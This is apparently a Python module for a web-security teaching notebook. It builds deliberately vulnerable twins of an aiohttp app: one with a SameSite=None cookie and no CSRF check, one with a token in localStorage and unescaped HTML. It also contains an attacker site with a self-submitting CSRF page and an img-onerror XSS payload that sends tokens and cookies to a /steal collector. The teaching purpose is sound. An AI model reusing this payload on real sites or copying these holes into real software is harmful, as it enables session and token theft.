"""DELIBERATELY VULNERABLE twins of the browser flow and the attacker's site, for notebook 08. Never deploy.

- ``create_csrf_twin``: the app with its session cookie ``SameSite=None`` and no CSRF check. A page on any
  other site can make a logged-in visitor's browser post to ``/auth/logout`` with that cookie.
- ``create_xss_twin``: the app whose page keeps the access token in ``localStorage`` and writes the ``notice``
  of its URL as HTML, served without a Content-Security-Policy: a link with a script in its ``notice`` sends
  the token to the attacker.
- ``create_attacker_app``: the attacker's site: a page that posts a form to a target (``/csrf``), and a
  collector for what an injected script sends (``/steal``, read back at ``/loot``).
- ``create_second_origin_app``: the app's page served from another origin, calling the API at ``api_url``
  (the CORS demonstration).
- ``page_link``: where the learner's own browser finds a server's page, locally or through jupyter-server-proxy.

Each twin is ``app.build_app`` with the learner-facing parts swapped, exactly as notebook 05's twins: the same
routes, store and limits, one flaw each. Serve them with ``server.BackgroundServer`` (127.0.0.1 only).
"""

from __future__ import annotations

import dataclasses
import html
import os
from collections.abc import Collection, Mapping
from urllib.parse import quote, urlencode

from aiohttp import web

from ..app import build_app
from ..browser import AUTH_PREFIX, CONTENT_SECURITY_POLICY, PAGE_FILES, REFRESH_COOKIE, page_files
from ..keys import BROWSER
from ..routes import public_route
from ..settings import Settings
from ..store import Store

#: What the attacker's collector received, one ``{"token": str, "cookie": str}`` per visit of ``/steal``.
LOOT = web.AppKey("loot", list)
#: Where the second origin's page sends its API calls (settable after both servers started).
API_URL = web.AppKey("api_url", list)

#: The twin page's changes to the app's ``app.js``, each ``(safe line, vulnerable line)``: every safe line
#: occurs exactly once in the shipped page (``twin_page`` checks), so the twin differs by these lines only.
LOCAL_STORAGE_PATCHES = (
    ("let accessToken = null;", 'let accessToken = localStorage.getItem("access_token");'),
    (
        "  accessToken = data.access_token;\n",
        '  accessToken = data.access_token;\n  localStorage.setItem("access_token", accessToken);\n',
    ),
)
UNESCAPED_NOTICE_PATCHES = (('element("notice").textContent = notice;', 'element("notice").innerHTML = notice;'),)


def cookie_for_any_site(response: web.StreamResponse, refresh_token: str, settings: Settings) -> None:
    """The CSRF twin's cookie: ``SameSite=None``, so the browser sends it with requests other sites start."""
    response.set_cookie(
        REFRESH_COOKIE,
        refresh_token,
        max_age=settings.refresh_token_ttl,
        path=AUTH_PREFIX,
        secure=True,
        httponly=True,
        samesite="None",
    )


def clear_cookie_for_any_site(response: web.StreamResponse) -> None:
    """Clear the CSRF twin's cookie (its attributes, so the browser matches it)."""
    response.del_cookie(REFRESH_COOKIE, path=AUTH_PREFIX, secure=True, httponly=True, samesite="None")


def no_csrf_check(request: web.Request, allowed_origins: Collection[str]) -> None:
    """The CSRF twin's check: none. Any page of any site may use the cookie."""


def create_csrf_twin(settings: Settings | None = None, users: Store | None = None) -> web.Application:
    """The app with a ``SameSite=None`` session cookie and no CSRF check (notebook 08's CSRF lab)."""
    return build_app(
        settings,
        users,
        set_refresh_cookie=cookie_for_any_site,
        clear_refresh_cookie=clear_cookie_for_any_site,
        check_csrf=no_csrf_check,
    )


def patch_page_script(script: str, patches: Collection[tuple[str, str]]) -> str:
    """``script`` with each ``(safe, vulnerable)`` replaced; ``ValueError`` when a safe text is not there once."""
    for safe, vulnerable in patches:
        if script.count(safe) != 1:
            raise ValueError(f"app.js holds {script.count(safe)} copies of {safe!r}, not one: update the patches")
        script = script.replace(safe, vulnerable)
    return script


def twin_page(*, token_in_local_storage: bool = True, unescaped_notice: bool = True) -> dict[str, bytes]:
    """The app's page with the chosen flaws: the token kept in ``localStorage``, the notice written as HTML."""
    files = page_files()
    patches = [
        *(LOCAL_STORAGE_PATCHES if token_in_local_storage else ()),
        *(UNESCAPED_NOTICE_PATCHES if unescaped_notice else ()),
    ]
    files["app.js"] = patch_page_script(files["app.js"].decode("utf-8"), patches).encode("utf-8")
    return files


def create_xss_twin(
    settings: Settings | None = None,
    users: Store | None = None,
    *,
    token_in_local_storage: bool = True,
    unescaped_notice: bool = True,
    content_security_policy: bool = False,
) -> web.Application:
    """The app serving a page with the chosen flaws, and its CSP header or none (notebook 08's XSS lab).

    The defaults make the twin: every flaw, no CSP. ``token_in_local_storage=False, content_security_policy=False``
    shows an injection that runs but finds no token; ``content_security_policy=True`` one that never runs.
    """
    app = build_app(settings, users)
    app[BROWSER] = dataclasses.replace(
        app[BROWSER],
        page=twin_page(token_in_local_storage=token_in_local_storage, unescaped_notice=unescaped_notice),
        content_security_policy=CONTENT_SECURITY_POLICY if content_security_policy else None,
    )
    return app


# ------------------------------------------------------------------------------------------- the attacker


def cross_site_url(url: str) -> str:
    """``url`` with its host ``127.0.0.1`` written ``localhost``: the same server, another site for the browser.

    Ports do not make sites: ``http://127.0.0.1:8001`` and ``http://127.0.0.1:8002`` are the same site, and
    ``SameSite`` cookies go from one to the other. ``localhost`` is a site of its own.
    """
    return url.replace("://127.0.0.1:", "://localhost:", 1)


def xss_payload(attacker_url: str) -> str:
    """HTML that, written into a page as HTML, sends the page's ``localStorage`` token and ``document.cookie``
    to ``attacker_url/steal``. An ``<img>`` that fails to load runs its ``onerror``; ``<script>`` written by
    ``innerHTML`` would not run at all."""
    steal = (
        f"new Image().src='{attacker_url}/steal?token='"
        "+encodeURIComponent(localStorage.getItem('access_token')||'')"
        "+'&cookie='+encodeURIComponent(document.cookie)"
    )
    return f'<img src="x" onerror="{steal}">'


def xss_link(page_url: str, attacker_url: str) -> str:
    """The link the attacker sends the victim: the page with ``xss_payload`` as its ``notice``."""
    return f"{page_url}?{urlencode({'notice': xss_payload(attacker_url)}, quote_via=quote)}"


def csrf_page(target: str) -> str:
    """A page that, once opened, makes the browser post an empty form to ``target`` (its cookies go along)."""
    return (
        "<!doctype html><html><head><title>You won a prize</title></head><body>"
        f'<form id="attack" method="post" action="{html.escape(target)}"></form>'
        "<script>document.getElementById('attack').submit()</script></body></html>"
    )


@public_route
async def attacker_csrf(request: web.Request) -> web.Response:
    """``GET /csrf?target=URL``: the page that posts to ``URL`` as soon as it is opened."""
    target = request.query.get("target", "")
    if not target.startswith(("http://", "https://")):
        raise web.HTTPBadRequest(text="target must be an http(s) URL")
    return web.Response(text=csrf_page(target), content_type="text/html")


@public_route
async def attacker_steal(request: web.Request) -> web.Response:
    """``GET /steal?token=…&cookie=…``: keep what an injected script sent."""
    request.app[LOOT].append({"token": request.query.get("token", ""), "cookie": request.query.get("cookie", "")})
    return web.Response(status=204)


@public_route
async def attacker_loot(request: web.Request) -> web.Response:
    """``GET /loot``: what ``/steal`` received, oldest first."""
    return web.json_response(request.app[LOOT])


def create_attacker_app() -> web.Application:
    """The attacker's site: ``/csrf?target=URL``, ``/steal`` and ``/loot``."""
    app = web.Application()
    app[LOOT] = []
    app.router.add_get("/csrf", attacker_csrf)
    app.router.add_get("/steal", attacker_steal)
    app.router.add_get("/loot", attacker_loot)
    return app


def csrf_attack_url(attacker_url: str, target_app_url: str) -> str:
    """The attacker's page that logs the victim out of ``target_app_url`` (``/auth/logout`` with their cookie)."""
    return f"{attacker_url}/csrf?{urlencode({'target': target_app_url + AUTH_PREFIX + '/logout'})}"


# ----------------------------------------------------------------------------------------- another origin


def second_origin_page(files: Mapping[str, bytes], api_url: str) -> dict[str, bytes]:
    """The page's files with its API base set to ``api_url`` instead of ``../``."""
    index = files["index.html"].decode("utf-8")
    shipped = '<meta name="api-base" content="../">'
    if index.count(shipped) != 1:
        raise ValueError("index.html has no api-base meta tag to replace")
    index = index.replace(shipped, f'<meta name="api-base" content="{html.escape(api_url)}/">')
    return {**files, "index.html": index.encode("utf-8")}


async def _second_origin_file(request: web.Request) -> web.Response:
    name = request.match_info.get("name") or "index.html"
    api_url = request.app[API_URL][0]
    files = second_origin_page(page_files(), api_url)
    if name not in files:
        raise web.HTTPNotFound()
    # The app's policy, with the API's origin as the one place the page may connect to.
    policy = CONTENT_SECURITY_POLICY.replace("connect-src 'self'", f"connect-src {api_url}")
    headers = {"Content-Security-Policy": policy}
    return web.Response(body=files[name], content_type=PAGE_FILES[name], charset="utf-8", headers=headers)


def create_second_origin_app(api_url: str = "") -> web.Application:
    """The app's page on another origin, calling the API at ``api_url`` (``set_api_url`` changes it later)."""
    app = web.Application()
    app[API_URL] = [api_url]
    app.router.add_get("/app/", public_route(_second_origin_file))
    app.router.add_get("/app/{name}", _second_origin_file)
    return app


def set_api_url(app: web.Application, api_url: str) -> None:
    """Point the second origin's page at another API (the page reads it when it is next loaded)."""
    app[API_URL][0] = api_url


# ------------------------------------------------------------------------------------- the learner's browser


def page_link(port: int, path: str = "/app/", environ: Mapping[str, str] | None = None) -> str:
    """The URL at which the learner's browser reaches ``path`` of a server on ``port`` of the kernel's machine.

    Locally, ``http://127.0.0.1:<port><path>``. On JupyterHub and Binder (``JUPYTERHUB_SERVICE_PREFIX`` is set,
    e.g. ``/user/alice/``) the kernel's 127.0.0.1 is not the browser's: the link goes through
    jupyter-server-proxy, ``<prefix>proxy/<port><path>``, a path on the hub's own origin.
    """
    env = os.environ if environ is None else environ
    prefix = env.get("JUPYTERHUB_SERVICE_PREFIX")
    if prefix:
        return f"{prefix.rstrip('/')}/proxy/{port}{path}"
    return f"http://127.0.0.1:{port}{path}"
